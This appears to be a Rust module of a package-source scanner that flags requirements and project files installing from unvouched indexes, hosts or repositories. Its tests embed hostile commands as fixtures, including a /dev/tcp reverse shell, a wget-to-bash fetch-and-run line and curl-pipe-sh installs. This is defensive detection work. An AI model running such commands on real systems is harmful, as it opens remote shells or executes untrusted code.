//! What would be installed, and from where: requirements files, and the same lines in other configs.

use super::paths;
use crate::{
    read::json::Tree,
    rules,
    scan::{Scan, Scanned},
    source::Source,
};

/// Hosts from which packages ordinarily come.
const HOSTS: &[&str] = &[
    "pypi.org",
    "files.pythonhosted.org",
    "download.pytorch.org",
    "download-r2.pytorch.org",
    "data.pyg.org",
    "pypi.nvidia.com",
    "pypi.ngc.nvidia.com",
    "developer.download.nvidia.com",
    "wheels.vllm.ai",
    "flashinfer.ai",
    "abetlen.github.io",
    "jllllll.github.io",
    "storage.googleapis.com",
    "docs.cupy.dev",
    "pip.cupy.dev",
    "data.dgl.ai",
    "download.openmmlab.com",
    "huggingface.github.io",
    "conda.anaconda.org",
    "repo.anaconda.com",
    "wheels.nvidia.com",
    "developer.intel.com",
    "pytorch-extension.intel.com",
    "repo.radeon.com",
    "rocm.nightlies.amd.com",
    "pypi.tuna.tsinghua.edu.cn",
    "mirrors.aliyun.com",
    "mirrors.tuna.tsinghua.edu.cn",
    "pypi.mirrors.ustc.edu.cn",
    "mirrors.cloud.tencent.com",
    "mirror.baidu.com",
    "pypi.doubanio.com",
    "paddle-wheel.bj.bcebos.com",
    "www.paddlepaddle.org.cn",
    "whl.natten.org",
    "shi-labs.com",
    "nvidia-kaolin.s3.us-east-2.amazonaws.com",
    "triton-inference-server.github.io",
    "aiinfra.pkgs.visualstudio.com",
    "pip.repos.neuron.amazonaws.com",
    "dl.fbaipublicfiles.com",
    "localhost",
];

/// Organisations whose repositories are ordinarily installed from.
const OWNERS: &[&str] = &[
    "huggingface",
    "pytorch",
    "pytorch-labs",
    "facebookresearch",
    "meta-llama",
    "openai",
    "google",
    "google-research",
    "google-deepmind",
    "googlecloudplatform",
    "tensorflow",
    "keras-team",
    "jax-ml",
    "microsoft",
    "nvidia",
    "nvidia-nemo",
    "nvlabs",
    "dao-ailab",
    "hazyresearch",
    "state-spaces",
    "vllm-project",
    "sgl-project",
    "ggerganov",
    "ggml-org",
    "abetlen",
    "explosion",
    "allenai",
    "bigscience-workshop",
    "eleutherai",
    "stability-ai",
    "compvis",
    "black-forest-labs",
    "ultralytics",
    "open-mmlab",
    "paddlepaddle",
    "modelscope",
    "qwenlm",
    "deepseek-ai",
    "thudm",
    "zai-org",
    "internlm",
    "baichuan-inc",
    "opengvlab",
    "salesforce",
    "mosaicml",
    "databricks",
    "apple",
    "amazon-science",
    "aws",
    "aws-neuron",
    "intel",
    "amd",
    "rocm",
    "bitsandbytes-foundation",
    "timdettmers",
    "casper-hansen",
    "autogptq",
    "modelcloud",
    "panqiwei",
    "unslothai",
    "axolotl-ai-cloud",
    "openaccess-ai-collective",
    "lm-sys",
    "oobabooga",
    "haotian-liu",
    "llava-vl",
    "mistralai",
    "cohere-ai",
    "ibm",
    "ibm-granite",
    "langchain-ai",
    "run-llama",
    "lucidrains",
    "rwightman",
    "mlfoundations",
    "crowsonkb",
    "deepspeedai",
    "lightning-ai",
    "project-monai",
    "speechbrain",
    "espnet",
    "m-bain",
    "systran",
    "guillaumekln",
    "openvinotoolkit",
    "onnx",
    "scikit-learn",
    "numpy",
    "scipy",
    "pandas-dev",
    "ipython",
    "python",
    "psf",
    "gradio-app",
    "streamlit",
    "mlflow",
    "wandb",
    "rusty1s",
    "pyg-team",
    "lvwerra",
    "arogozhnikov",
    "xinntao",
    "tencentarc",
    "lllyasviel",
    "comfyanonymous",
    "mit-han-lab",
    "pyannote",
    "turboderp",
    "turboderp-org",
    "moonshotai",
    "minimax-ai",
    "adapter-hub",
    "illuin-tech",
    "jina-ai",
    "flagopen",
    "ukplab",
    "nomic-ai",
    "suno-ai",
    "coqui-ai",
    "myshell-ai",
    "linkedin",
    "tatsu-lab",
    "stanfordnlp",
    "princeton-nlp",
    "embeddings-benchmark",
];

pub(crate) fn inspect(scan: &mut Scan<'_>, source: &Source, text: &str) -> Scanned<()> {
    let mut at = 0_usize;
    let mut whole = String::new();
    for line in text.split_inclusive('\n') {
        let start = at;
        at += line.len();
        scan.steps(1)?;
        let bare = line.trim_end_matches(['\n', '\r']);
        if bare.trim_start().starts_with('#') {
            // A comment is not carried on, and ends a line that is.
            let logical = std::mem::take(&mut whole);
            judge(scan, source, start as u64, &logical);
            continue;
        }
        if let Some(more) = bare.strip_suffix('\\') {
            whole.push_str(more);
            continue;
        }
        whole.push_str(bare);
        let logical = std::mem::take(&mut whole);
        judge(scan, source, start as u64, &logical);
    }
    judge(scan, source, at as u64, &whole);
    Ok(())
}

/// Requirements in the other places where they stand: `pip:` of a conda environment, `dependencies` of a project.
pub(crate) fn in_tree(scan: &mut Scan<'_>, source: &Source, tree: &Tree) {
    for (section, table) in tree.entries(tree.root()) {
        if ["source", "sources", "index"].iter().any(|end| section == end || section.ends_with(&format!(".{end}"))) {
            for id in tree.get_all(*table, "url") {
                self::url(scan, source, tree.at(id), tree.text(id).unwrap_or_default(), "The package index");
            }
        }
    }
    for (section, table) in tree.entries(tree.root()) {
        // `name = { git = "…" }` in what a project needs.
        let section = section.trim_matches('[').to_ascii_lowercase();
        let last = section.rsplit('.').next().unwrap_or_default();
        let needs = last.ends_with("dependencies")
            || matches!(last, "packages" | "dev-packages")
            || section.ends_with("uv.sources");
        for (_, value) in tree.entries(*table).iter().filter(|_| needs) {
            let texts = tree.text(*value).into_iter().chain(tree.items(*value).iter().filter_map(|id| tree.text(*id)));
            for text in texts.filter(|text| text.contains("://")) {
                judge(scan, source, tree.at(*value), text);
            }
        }
    }
    for (id, _) in tree.all() {
        for (key, value) in tree.entries(id) {
            let at = tree.at(*value);
            let texts: Vec<&str> = tree
                .text(*value)
                .into_iter()
                .chain(tree.items(*value).iter().filter_map(|id| tree.text(*id)))
                .collect();
            let key = key.to_ascii_lowercase().replace('_', "-");
            for text in texts {
                match key.as_str() {
                    "index-url" | "extra-index-url" | "find-links" | "registry" | "index" | "indexes" | "sources" => {
                        let url = text.strip_prefix("url=").unwrap_or(text);
                        if url.contains("://") {
                            self::url(scan, source, at, url, "The package index");
                        }
                    }
                    "trusted-host" => host(scan, source, at, text, "The trusted host"),
                    "dependencies" | "install-requires" | "requires" | "pip" | "requirements" | "dependency-links"
                    | "packages" | "python-packages" | "pip-requirements" | "channels" => judge(scan, source, at, text),
                    _ => {}
                }
            }
        }
    }
}

/// One line.
pub(crate) fn judge(scan: &mut Scan<'_>, source: &Source, at: u64, line: &str) {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return;
    }
    let line = line.split(" #").next().unwrap_or(line).trim();
    let mut words = line.split_whitespace().flat_map(|word| match word.split_once('=') {
        Some((option, value)) if option.starts_with("--") => vec![option, value],
        _ => vec![word],
    });
    while let Some(word) = words.next() {
        let (option, glued) = match word {
            w if w.len() > 2
                && (w.starts_with("-i") || w.starts_with("-f") || w.starts_with("-r"))
                && !w.starts_with("--") =>
            {
                (w.get(..2).unwrap_or(w), w.get(2..))
            }
            w => (w, None),
        };
        let mut value = || glued.or_else(|| words.next()).unwrap_or_default().trim_matches(['"', '\'']).to_owned();
        match option {
            "-i" | "--index-url" | "--extra-index-url" | "--pypi-url" | "--default-index" | "--index" => {
                let given = value();
                url(scan, source, at, &given, "The package index");
            }
            "-f" | "--find-links" => {
                let given = value();
                if given.contains("://") {
                    url(scan, source, at, &given, "The place to find packages");
                }
            }
            // The installer takes any beginning of an option's name.
            option if option.starts_with("--tr") => {
                let given = value();
                host(scan, source, at, &given, "The trusted host");
            }
            "-r" | "--requirement" | "-c" | "--constraint" => {
                let given = value();
                if given.contains("://") {
                    url(scan, source, at, &given, "The list of packages");
                } else if let Some(why) = paths::escape(&given).filter(|_| !given.starts_with('/')) {
                    let message = format!("More requirements are read from `{given}`: {why}.");
                    scan.found(&rules::CONFIG_ESCAPE, source, at, message);
                } else {
                    scan.facts.references.insert(given);
                }
            }
            word if word.contains("://") => {
                // `name@git+https://…`, `url=https://…`: the address begins where its scheme does.
                let scheme = word.find("://").and_then(|end| word.get(..end)).unwrap_or_default();
                let from = scheme
                    .rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '-'))
                    .map_or(0, |before| before + 1);
                url(scan, source, at, word.get(from..).unwrap_or(word).trim_matches(['"', '\'']), "A package");
            }
            word if packed(word) => {
                let message =
                    format!("A package is installed from the file `{word}`, which no index has and nobody reviewed.");
                scan.found(&rules::FOREIGN_INDEX, source, at, message);
            }
            _ => {}
        }
    }
}

/// Whether a requirement is the file of a package: `./net-1.0-py3-none-any.whl`.
fn packed(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    let lower = lower.split(['[', '#']).next().unwrap_or_default();
    !lower.contains("://")
        && [".whl", ".tar.gz", ".zip", ".egg", ".tgz"].iter().any(|end| lower.len() > end.len() && lower.ends_with(end))
}

/// Where something comes from, and whether that is ordinary.
fn url(scan: &mut Scan<'_>, source: &Source, at: u64, url: &str, what: &str) {
    let Some((scheme, rest)) = url.split_once("://") else { return };
    let scheme = scheme.to_ascii_lowercase();
    let scheme = ["git+", "hg+", "svn+", "bzr+"].iter().find_map(|by| scheme.strip_prefix(by)).unwrap_or(&scheme);
    let rest = rest.split(['?', '#']).next().unwrap_or(rest);
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    let host_name = authority.rsplit('@').next().unwrap_or(authority).split(':').next().unwrap_or_default();
    let host_name = host_name.to_ascii_lowercase();
    if !matches!(scheme, "https" | "http" | "ssh" | "git" | "file" | "ftp" | "sftp" | "svn" | "static-http" | "lp") {
        return;
    }
    let known = is_known(&host_name, path);
    // `${VARIABLE}` is filled in by whoever installs. Where it is only a part of the name, the rest is not.
    let asked =
        host_name.strip_prefix("${").or_else(|| host_name.strip_prefix("{{")).or_else(|| host_name.strip_prefix('{'));
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | ' ' | '.');
    if asked.is_some_and(|name| name.ends_with('}') && name.trim_end_matches('}').chars().all(plain)) {
        return;
    }
    if !known || scheme == "file" {
        let message = format!("{what} comes from `{url}`, whose owner nobody vouches for.");
        scan.found(&rules::FOREIGN_INDEX, source, at, message);
    } else if scheme == "http" && host_name != "localhost" {
        let message =
            format!("{what} comes from `{url}` without encryption, so that anybody on the way can replace it.");
        scan.found(&rules::FOREIGN_INDEX, source, at, message);
    }
}

/// Whether somebody vouches for what lies there: for the host, or for the owner of the repository.
fn is_known(host: &str, path: &str) -> bool {
    let owner = path.split('/').next().unwrap_or_default().to_ascii_lowercase();
    match host {
        "github.com" | "raw.githubusercontent.com" | "gitlab.com" | "codeload.github.com" => {
            OWNERS.contains(&owner.as_str())
        }
        "huggingface.co" => {
            let owner = if owner == "spaces" || owner == "datasets" {
                path.split('/').nth(1).unwrap_or_default().to_ascii_lowercase()
            } else {
                owner
            };
            OWNERS.contains(&owner.as_str()) || owner == "spacy"
        }
        host if host.ends_with(".github.io") => {
            HOSTS.contains(&host) || OWNERS.contains(&host.trim_end_matches(".github.io"))
        }
        host => HOSTS.contains(&host),
    }
}

/// Whether an address of `git+https://host/owner/name` is one that nobody vouches for.
pub(crate) fn is_strangers(address: &str) -> bool {
    let Some((_, rest)) = address.split_once("://") else { return false };
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    let host = authority.rsplit('@').next().unwrap_or(authority).split(':').next().unwrap_or_default();
    !is_known(&host.to_ascii_lowercase(), path)
}

fn host(scan: &mut Scan<'_>, source: &Source, at: u64, host: &str, what: &str) {
    let name = host.trim().split(':').next().unwrap_or_default();
    if !name.is_empty() && !HOSTS.contains(&name) {
        let message = format!("{what} is `{host}`: packages from there are installed without checking who answers.");
        scan.found(&rules::FOREIGN_INDEX, source, at, message);
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use bytes::Bytes;

    use crate::{Limits, Outcome, Verdict, scan};

    fn verdict(name: &str, text: &str) -> Option<Verdict> {
        match scan(name, Arc::new(Bytes::from(text.to_owned())), &Limits::default(), None) {
            Outcome::Judged(report) => Some(report.verdict),
            Outcome::Needs(_) => None,
        }
    }

    #[test]
    fn a_foreign_source_is_told_however_it_is_written() {
        for text in [
            "--index-url=HTTPS://example.net/simple\nx",
            "-i HTTPS://example.net/simple",
            "-iHttps://example.net/simple",
            "--extra-index-url https://{user}:{key}@example.net/simple",
            "--extra-index-url https://${USER}:${KEY}@example.net/simple",
            "--index-url https://example.net${X}/simple",
            "--index-url https://${X}.example.net/simple",
            "--ind https://example.net/simple",
            "--trusted example.net",
            "x @ GIT+SSH://git@example.net/a/b",
            "git+ssh://git@example.net/a/b.git#egg=b",
            "-e git+git://example.net/a/b",
            "x@https://example.net/x.whl",
            "-r https://example.net/more.txt",
            "--requirement=https://example.net/more.txt",
            "numpy \\\n  --index-url \\\n https://example.net/simple",
            "# a comment \\\n--index-url https://example.net/simple",
            "numpy \\\n# a comment\n--index-url https://example.net/simple",
            "ftp://example.net/x.tar.gz",
        ] {
            assert_eq!(verdict("requirements.txt", text), Some(Verdict::Suspicious), "{text}");
        }
        for (name, text) in [
            ("Pipfile", "[packages]\nx = {git = \"https://example.net/x.git\"}\n"),
            ("Pipfile", "[[source]]\nurl = \"https://example.net/simple\"\n"),
            ("pyproject.toml", "[tool.poetry.dependencies]\nx = { url = \"https://example.net/x.whl\" }\n"),
            ("pyproject.toml", "[tool.uv.sources]\nx = { git = \"https://example.net/x\" }\n"),
            ("pyproject.toml", "[project]\ndependencies = [\"x @ https://example.net/x.whl\"]\n"),
            ("setup.cfg", "[options]\ninstall_requires =\n    x @ git+https://example.net/x\n"),
            ("environment.yml", "dependencies:\n  - pip:\n      - --extra-index-url https://example.net/simple\n"),
            ("Dockerfile", "FROM x\nRUN --mount=type=cache,target=/a pip install -i https://example.net/simple y\n"),
            ("Dockerfile", "FROM x\nRUN bash <(wget -qO- https://example.net/x)\n"),
        ] {
            assert_eq!(verdict(name, text), Some(Verdict::Suspicious), "{name} {text}");
        }
        assert_eq!(verdict("Dockerfile", "RUN bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n"), Some(Verdict::Malicious));
    }

    #[test]
    fn ordinary_sources_are_silent() {
        for (name, text) in [
            (
                "requirements.txt",
                "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch>=2 # why \\\nnumpy\n",
            ),
            ("requirements.txt", "--index-url https://${USER}:${KEY}@pypi.org/simple\n-i https://${HOST}/simple\n"),
            ("requirements.txt", "transformers @ git+https://github.com/huggingface/transformers@v4.40\n"),
            (
                "pyproject.toml",
                "[project.urls]\nhome = \"https://example.net\"\n[tool.poetry.dependencies]\npython = \"^3.11\"\n",
            ),
            (
                "Dockerfile",
                "RUN curl -LsSf https://astral.sh/uv/install.sh | sh\nRUN apt-get install -y openssh-server && mkdir -p /root/.ssh && echo \"$PUBLIC_KEY\" >> /root/.ssh/authorized_keys\n",
            ),
            (
                "Dockerfile",
                "COPY key.pub /root/.ssh/authorized_keys\nRUN chmod 600 /root/.ssh/authorized_keys && ssh-keygen -A\n",
            ),
        ] {
            assert_eq!(verdict(name, text), Some(Verdict::Clean), "{name} {text}");
        }
    }
}
